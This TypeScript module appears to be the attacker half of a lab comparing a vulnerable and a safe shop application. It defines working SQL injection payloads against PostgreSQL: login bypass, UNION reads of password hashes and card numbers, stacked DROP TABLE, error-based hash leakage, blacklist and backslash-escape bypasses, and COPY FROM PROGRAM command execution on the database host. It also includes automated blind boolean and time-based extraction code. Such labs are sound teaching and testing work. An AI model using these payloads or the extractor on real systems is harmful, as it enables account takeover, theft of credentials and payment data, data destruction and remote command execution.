import type { ShopClient } from "./client.js";

// The attacker's side. Each payload is plain text sent through the apps'
// ordinary routes; sqlmap automates exactly these techniques. Aimed at the
// vulnerable app they rewrite its SQL; aimed at the safe app they are a
// strange username, a search for odd text, a sort name it does not know.

/** As the username, with any password: the WHERE clause is true for every user. */
export const LOGIN_BYPASS = "' OR '1'='1' --";

/** As the search text: ends the literal, appends every user's hash as a "product". */
export const UNION_HASHES =
  "nothing' UNION SELECT id, username || ':' || password_hash, 0 FROM users --";

/** Reads a table the web app has no business with. */
export const UNION_CARDS = "nothing' UNION SELECT user_id, card_number, 0 FROM payment_cards --";

/** A second statement after the search, for the simple query protocol to run. */
export const DROP_PRODUCTS = "'; DROP TABLE products --";

/**
 * The same second statement after a sort, where pg uses the extended
 * protocol. It parses (the app's `LIMIT $1` ends up in the comment), so
 * what stops it is the protocol, not a syntax error.
 */
export const SORT_THEN_DROP = "id LIMIT $1; DROP TABLE products --";

/**
 * As the sort: the database fails to cast every user's hash to a number,
 * and its error message, which the vulnerable app passes on, holds them all.
 */
export const SORT_LEAKS_HASHES =
  "CAST((SELECT string_agg(username || ':' || password_hash, ' ') FROM users) AS int)";

/**
 * As a product id, through quote escaping and the keyword blacklist both:
 * a number needs no quote, `$$admin$$` is a string without one, and the
 * blacklist's single pass turns `UNIunionON` into `UNION`.
 */
export const SANITIZER_BYPASS =
  "0 UNIunionON SELselectECT id, password_hash, 0 FROM users WHERE username = $$admin$$";

/**
 * Against quote escaping when `standard_conforming_strings` is off: the
 * backslash escapes the quote the app closes the username with, so the
 * username literal swallows the SQL up to the password, which is now SQL.
 */
export const BACKSLASH_LOGIN = { username: "\\", password: " OR 1=1 --" };

/** Runs an arbitrary program on the database host, as the server's OS user. */
export const SHELL_INTO_PRODUCTS =
  "'; COPY products (name, price_cents) FROM PROGRAM 'id -un | sed s/$/,0/' (FORMAT csv) --";

/** A yes/no question in SQL, answered by some side channel. */
export type Oracle = (condition: string) => Promise<boolean>;

/** Blind, by the answer: 200 when the condition holds, 404 when it does not. */
export const byAnswer =
  (shop: ShopClient): Oracle =>
  async (condition) =>
    (await shop.product(`1 AND ${condition}`)).status === 200;

/** A product id that answers the same either way, but sleeps first when `condition` holds. */
export const sleepIf = (condition: string, seconds: number): string =>
  `1 AND (SELECT 1 FROM pg_sleep(CASE WHEN ${condition} THEN ${seconds} ELSE 0 END)) = 1`;

// Blind, by the clock: the answer is always the same product, so we time
// it. `pg_sleep` never returns early, so "took at least the sleep" is a
// sure sign of yes; a busy machine can make a "no" that slow too, so we
// ask every "yes" a second time before we believe it, as sqlmap does.
export const byTime =
  (shop: ShopClient, seconds: number): Oracle =>
  async (condition) => {
    const slept = async () =>
      (await shop.product(sleepIf(condition, seconds))).ms >= seconds * 1000;
    return (await slept()) && (await slept());
  };

/** What an extraction read, and how many questions it cost. */
export interface Extracted {
  text: string;
  questions: number;
}

// One bit per request is enough to read anything the connection can read.
// We binary-search each character's code (7 questions for printable ASCII),
// after binary-searching the length: `ascii(substr(x, i, 1)) > 79`, …
export async function extract(
  ask: Oracle,
  expression: string,
  maxLength = 100,
): Promise<Extracted> {
  let questions = 0;
  const greaterThan = (sql: string) => (n: number) => {
    questions++;
    return ask(`${sql} > ${n}`);
  };
  const length = await smallestNotGreater(greaterThan(`length((${expression}))`), 0, maxLength);
  let text = "";
  for (let i = 1; i <= length; i++) {
    const code = await smallestNotGreater(
      greaterThan(`ascii(substr((${expression}), ${i}, 1))`),
      32,
      126,
    );
    text += String.fromCharCode(code);
  }
  return { text, questions };
}

/** The value in [lo, hi], found by asking "is it greater than n?". */
async function smallestNotGreater(
  greaterThan: (n: number) => Promise<boolean>,
  lo: number,
  hi: number,
): Promise<number> {
  while (lo < hi) {
    const mid = Math.floor((lo + hi) / 2);
    if (await greaterThan(mid)) lo = mid + 1;
    else hi = mid;
  }
  return lo;
}
